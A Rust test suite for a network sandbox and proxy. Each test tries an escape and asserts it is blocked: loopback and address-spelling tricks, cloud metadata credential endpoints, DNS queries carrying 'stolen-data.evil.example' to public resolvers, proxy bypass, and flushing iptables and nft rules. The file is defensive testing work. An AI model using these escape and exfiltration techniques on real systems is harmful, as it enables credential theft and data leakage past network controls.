//! Ways out that are not the proxy, and ways to make the proxy go where it must not.

use crate::support::{PRELUDE, Who, Witness, World, finish};
use serde_json::{Value, json};
use std::net::{Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket};

/// Connects and says what came of it; each try has a second.
const CONNECT: &str = "\
import time
def reach(host, port):
    with socket.create_connection((host, int(port)), 1): pass
say([attempt(lambda: reach(host, arguments[-1])) for host in arguments[:-1]])";

/// What the session that came last recorded, by kind.
fn events(world: &World, kind: &str) -> Vec<Value> {
    let mut all = world.list(&["audit", "log", "--session", "last"]);
    all.retain(|event| event["event"] == kind);
    all
}

fn curl(world: &World, flags: &[&str], arguments: &[&str]) -> String {
    let mut argv = vec!["curl", "-s", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code}"];
    argv.extend(arguments);
    finish(world.exec(flags, &argv), b"").text()
}

attack! {
    fn the_hosts_loopback_is_not_the_sandboxs(world) {
        let witness = Witness::listen();
        let port = witness.port().to_string();
        let spellings = ["127.0.0.1", "localhost", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "::ffff:127.0.0.1", "0.0.0.0"];
        let mut arguments = spellings.to_vec();
        arguments.push(&port);
        let outside = world.probe_outside(CONNECT, &arguments);
        assert!(outside.as_array().unwrap().iter().all(|outcome| outcome == "ok"), "{outside}");
        assert_eq!(witness.visitors(), spellings.len());
        let inside = world.probe(CONNECT, &arguments);
        assert_eq!(witness.visitors(), 0);
        // All of 127/8 is the sandbox's own, where nobody listens.
        assert_eq!([&inside[0], &inside[2], &inside[5]], ["ECONNREFUSED", "ECONNREFUSED", "ECONNREFUSED"], "{inside}");
    }
}

attack! {
    /// Allowed by name, a place on this machine is still not reached: the proxy refuses the address it finds.
    fn an_allowed_name_does_not_lead_to_this_machine(world) {
        let witness = Witness::listen();
        let port = witness.port();
        for host in ["localhost", "127.0.0.1", "127.1", "[::1]", "0.0.0.0", "[::ffff:127.0.0.1]"] {
            let url = format!("http://{host}:{port}/");
            let rule = format!("* http://{}:{port}/**", if host == "127.1" { "127.0.0.1" } else { host });
            let code = curl(world, &["--allow", &rule], &["-x", "http://10.77.0.1:3128", &url]);
            assert!(["403", "400", "421", "502", "000", ""].contains(&code.as_str()), "{host}: {code}");
        }
        assert_eq!(witness.visitors(), 0);
        let mut direct = world.command("curl".as_ref());
        direct.args(["-s", "--max-time", "1", &format!("http://127.0.0.1:{port}/")]);
        finish(direct, b"");
        assert_eq!(witness.visitors(), 1, "the witness sees who comes");
    }
}

attack! {
    fn an_address_that_is_said_to_be_meant_is_reached(world) {
        let witness = Witness::listen();
        let to = format!("meant.example:80:127.0.0.1:{}", witness.port());
        curl(world, &["--allow", "* http://meant.example/**", "--connect-to", &to], &["--max-time", "1", "http://meant.example/"]);
        assert_eq!(witness.visitors(), 1, "what the user says in so many words does leave");
        curl(world, &["--connect-to", &to], &["http://meant.example/"]);
        assert_eq!(witness.visitors(), 0, "but only what is allowed");
    }
}

attack! {
    /// Where clouds hand out credentials to whoever asks; a rule for it does not help.
    fn metadata_services_are_refused_whatever_the_rules(world) {
        for host in ["169.254.169.254", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]"] {
            let rule = format!("* http://{host}/**");
            let code = curl(world, &["--allow", &rule], &[&format!("http://{host}/latest/meta-data/")]);
            assert_eq!(code, "403", "{host}");
        }
        assert_eq!(curl(world, &[], &["http://metadata.google.internal/"]), "403");
    }
}

attack! {
    /// No proxy variable is obeyed, and none is needed: whatever connects is captured.
    fn cannot_go_around_the_proxy_by_ignoring_it(world) {
        let variables = "unset $(env | sed -n 's/^\\([A-Za-z_]*[pP][rR][oO][xX][yY]\\)=.*/\\1/p'); env -i PATH=$PATH SSL_CERT_FILE=/run/omni/ca-bundle.pem ";
        let script = format!("{variables} curl -s --noproxy '*' -o /dev/null -w '%{{http_code}} %{{remote_ip}}' http://203.0.113.9:8099/");
        let outcome = world.shell(&[], &script);
        assert_eq!(outcome.text(), "403 203.0.113.9", "{outcome:?}");
        assert!(!events(world, "request_denied").is_empty(), "{:?}", world.list(&["audit", "log"]));
    }
}

attack! {
    /// Every way to write an address is the same address to the rules, and none is allowed.
    fn spellings_of_an_address_do_not_matter(world) {
        let spellings = ["203.0.113.9", "3405803785", "0xcb.0.0x71.9", "0313.0.0161.011", "[::ffff:203.0.113.9]", "[64:ff9b::cb00:7109]", "[2002:cb00:7109::]"];
        for spelling in spellings {
            let code = curl(world, &["--allow", "* http://allowed.example/**"], &[&format!("http://{spelling}/")]);
            assert_eq!(code, "403", "{spelling}");
        }
        let denied = curl(world, &["--allow", "* http://203.0.113.0/**", "--deny", "* http://203.0.113.9/**"], &["http://0xcb.0.0x71.9/"]);
        assert_eq!(denied, "403");
    }
}

attack! {
    fn other_protocols_than_tcp_fail_at_once(world) {
        let host = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        host.set_nonblocking(true).unwrap();
        let code = "\
import time
def send(family, host, port, kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(5)
        s.connect((host, int(port)))
        s.send(b'x'); s.recv(1)
started = time.monotonic()
v4, v6 = socket.AF_INET, socket.AF_INET6
outcome = [attempt(lambda: send(v4, '127.0.0.1', arguments[0])), attempt(lambda: send(v4, '203.0.113.9', 443)),
    attempt(lambda: send(v6, '2001:db8::9', 443)), attempt(lambda: send(v4, '8.8.8.8', 123)),
    attempt(lambda: send(v4, '203.0.113.9', 443, socket.SOCK_DGRAM, 136)),
    attempt(lambda: socket.socket(v4, socket.SOCK_STREAM, 132)), attempt(lambda: socket.socket(v4, socket.SOCK_DGRAM, 1)),
    attempt(lambda: socket.socket(v4, socket.SOCK_RAW, 1))]
say([outcome, time.monotonic() - started < 1])";
        let control = "\
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b'x', ('127.0.0.1', int(arguments[0])))
say('sent')";
        let port = host.local_addr().unwrap().port().to_string();
        assert_eq!(world.probe_outside(control, &[&port]), "sent");
        assert!(host.recv(&mut [0; 8]).is_ok());
        let found = world.probe(code, &[&port]);
        assert_eq!(found[1], true, "within a second: {found}");
        let refused = found[0].as_array().unwrap();
        assert!(refused[..4].iter().all(|outcome| outcome == "ECONNREFUSED"), "{found}");
        assert!(refused[4..].iter().all(|outcome| outcome != "ok"), "{found}");
        assert!(host.recv(&mut [0; 8]).is_err(), "nothing came");
    }
}

attack! {
    /// No name server outside is asked, whichever the program wants to ask, so that a name can carry nothing out.
    fn names_are_answered_here_whoever_is_asked(world) {
        let host = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        host.set_nonblocking(true).unwrap();
        let code = "\
def question(name, kind):
    parts = b''.join(bytes([len(part)]) + part for part in name.encode().split(b'.'))
    return struct.pack('>6H', 7, 0x0100, 1, 0, 0, 0) + parts + b'\\0' + struct.pack('>2H', kind, 1)
def ask(server, name, kind, family=socket.AF_INET, port=53):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, port))
        s.send(question(name, kind))
        reply = s.recv(2000)
        return [reply[3] & 15, struct.unpack('>H', reply[6:8])[0], socket.inet_ntoa(reply[-4:]) if kind == 1 else None]
def ask_tcp(server, name):
    with socket.create_connection((server, 53), 5) as s:
        packet = question(name, 1)
        s.sendall(struct.pack('>H', len(packet)) + packet)
        return socket.inet_ntoa(s.recv(2000)[-4:])
say(dict(a=ask('8.8.8.8', 'stolen-data.evil.example', 1), again=ask('10.77.0.1', 'stolen-data.evil.example', 1),
    six=ask('2001:4860:4860::8888', 'stolen-data.evil.example', 1, socket.AF_INET6), tcp=ask_tcp('1.1.1.1', 'stolen-data.evil.example'),
    txt=ask('8.8.8.8', 'stolen-data.evil.example', 16), mx=ask('8.8.8.8', 'stolen-data.evil.example', 15),
    other=attempt(lambda: ask('127.0.0.1', 'stolen-data.evil.example', 1, port=int(arguments[0])))))";
        let port = host.local_addr().unwrap().port().to_string();
        let found = world.probe(code, &[&port]);
        let address = found["a"][2].as_str().unwrap().to_owned();
        assert!(address.starts_with("198.18.") || address.starts_with("198.19."), "{found}");
        assert_eq!([&found["again"][2], &found["six"][2], &found["tcp"]], [&address, &address, &address], "{found}");
        assert_eq!([&found["txt"], &found["mx"]], [&json!([0, 0, null]), &json!([0, 0, null])], "nothing of that kind");
        assert_eq!(found["other"], "ECONNREFUSED");
        assert!(host.recv(&mut [0; 8]).is_err());
        let recorded = world.list(&["audit", "log", "--session", "last"]);
        assert!(recorded.iter().any(|event| event.to_string().contains("stolen-data.evil.example")), "{recorded:?}");
    }
}

attack! {
    /// The proxy's own process is the one that could leak a question. Under strace's eye it sends no packet.
    fn a_refused_name_is_never_looked_up_outside(world) {
        let ask = "import urllib.request, urllib.error\n\
            def get(url):\n    try: return urllib.request.urlopen(url, timeout=10).status\n    except urllib.error.HTTPError as error: return error.code\n\
            say([get('http://a.stolen-data.example/'), socket.gethostbyname('b.stolen-data.example')[:4]])";
        let trace = world.place().join("trace");
        let mut command = world.command("strace".as_ref());
        command.args(["-f", "-qq", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-e", "signal=none", "-o"]).arg(&trace).arg(world.binary());
        let source = format!("{PRELUDE}\n{ask}");
        command.args(["exec", "--", "/usr/bin/python3", "-I", "-c", &source]);
        if can_trace(world) {
            let outcome = finish(command, b"");
            assert_eq!(outcome.json(), json!([403, "198."]), "{outcome:?}");
            let calls = std::fs::read_to_string(&trace).unwrap();
            // The harness asks the sandbox's resolver and captured addresses; anything else would be the proxy's.
            let inside = ["\"10.77.0.", "\"198.18.", "\"198.19.", "\"fd77:", "\"::ffff:10.77.0."];
            let elsewhere = |line: &&str| line.contains("AF_INET") && !inside.iter().any(|place| line.contains(place));
            let strays: Vec<&str> = calls.lines().filter(elsewhere).collect();
            assert!(calls.contains("10.77.0.1"), "the trace sees questions: {calls}");
            assert_eq!(strays, Vec::<&str>::new());
        } else {
            println!("skipped: strace cannot trace here");
        }
    }
}

fn can_trace(world: &World) -> bool {
    let mut command = world.command("sh".as_ref());
    command.args(["-c", "strace -f -qq -o /dev/null true"]);
    finish(command, b"").status.success()
}

attack! {
    fn the_other_internet_protocol_is_under_the_same_rules(world) {
        let witness = TcpListener::bind((Ipv6Addr::LOCALHOST, 0)).unwrap();
        witness.set_nonblocking(true).unwrap();
        let port = witness.local_addr().unwrap().port();
        let reach = "\
def reach(address):
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(5)
        s.connect((address, int(arguments[0]), 0, 1 if address.startswith('fe80') else 0))
say([attempt(lambda: reach(address)) for address in ('::1', 'fe80::1', '::')])";
        assert_eq!(world.probe_outside(reach, &[&port.to_string()])[0], "ok");
        assert_ne!(std::iter::from_fn(|| witness.accept().ok()).count(), 0);
        let inside = world.probe(reach, &[&port.to_string()]);
        assert_eq!(inside[0], "ECONNREFUSED", "{inside}");
        assert!(witness.accept().is_err());
        assert_eq!(curl(world, &[], &["http://[2001:db8::9]:8080/"]), "403");
        assert_eq!(curl(world, &[], &["-6", "http://six.example/"]), "403");
        assert_eq!(curl(world, &["--allow", "* http://[2001:db8::9]/**"], &[&format!("http://[::1]:{port}/")]), "000");
    }
}

attack! {
    /// A connection that says nothing the proxy can judge goes nowhere, allowed host or not.
    fn opaque_bytes_to_an_allowed_host_go_nowhere(world) {
        let witness = Witness::listen();
        let to = format!("meant.example:22:127.0.0.1:{}", witness.port());
        let talk = "\
def talk():
    with socket.create_connection(('meant.example', 22), 5) as s:
        s.sendall(b'SSH-2.0-attack\\r\\n\\0\\0\\0')
        return s.recv(100).decode(errors='replace')
try: said = talk()
except OSError as error: said = type(error).__name__
say(said)";
        let flags = ["--allow", "* meant.example:22/**", "--allow", "* http://meant.example:22/**", "--connect-to", &to];
        let said = world.probe_with(&flags, talk, &[]);
        assert!(!said.as_str().unwrap().starts_with("SSH"), "{said}");
        assert_eq!(witness.visitors(), 0);
        curl(world, &flags, &["--max-time", "1", "http://meant.example:22/"]);
        assert_eq!(witness.visitors(), 1, "what can be judged and is allowed does go");
    }
}

attack! {
    /// Trusting another authority, or none, does not change who answers.
    fn other_certificates_do_not_help(world) {
        let script = "for bundle in /etc/ssl/certs/ca-certificates.crt /dev/null; do \
            SSL_CERT_FILE=$bundle CURL_CA_BUNDLE=$bundle curl -s -o /dev/null -w '%{http_code} ' https://evil.example/; done; \
            unset SSL_CERT_FILE CURL_CA_BUNDLE; curl -s -k -o /dev/null -w '%{http_code} ' https://evil.example/; \
            HTTPS_PROXY= ALL_PROXY= curl -s -k -o /dev/null -w '%{http_code}' https://evil.example/";
        assert_eq!(world.shell(&[], script).text(), "403 000 403 403");
    }
}

attack! {
    fn cannot_change_the_network(world) {
        let script = "ip link set lo down; ip route add default dev lo; ip addr add 192.0.2.1/32 dev lo; \
            iptables -F; nft flush ruleset; sysctl -w net.ipv4.ip_forward=1; true";
        world.shell(&[], script);
        let look = "say([sorted(os.listdir('/proc/sys/net/ipv4/conf')), socket.if_nameindex(),\
            attempt(lambda: socket.socket(socket.AF_INET).bind(('0.0.0.0', 80))), attempt(lambda: socket.socket().bind(('0.0.0.0', 8080)))])";
        let found = world.probe(look, &[]);
        assert_eq!(found, json!([["all", "default", "lo"], [[1, "lo"]], "EACCES", "ok"]));
        let code = "\
route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
route.bind((0, 0)); route.settimeout(5)
# RTM_NEWADDR of 192.0.2.1/32 on interface 1, with an acknowledgement.
body = struct.pack('BBBBI', socket.AF_INET, 32, 0, 0, 1) + struct.pack('HH4s', 8, 2, socket.inet_aton('192.0.2.1'))
route.send(struct.pack('IHHII', 16 + len(body), 20, 0x405, 1, 0) + body)
say(name(-struct.unpack('i', route.recv(4096)[16:20])[0]))";
        assert_eq!(world.probe(code, &[]), "EPERM");
        if world.who == Who::Root {
            let in_a_namespace = "\
import subprocess
say(subprocess.run(['unshare', '--net', 'ip', 'addr', 'add', '192.0.2.1/32', 'dev', 'lo']).returncode)";
            assert_eq!(world.probe_outside(in_a_namespace, &[]), json!(0));
        }
    }
}
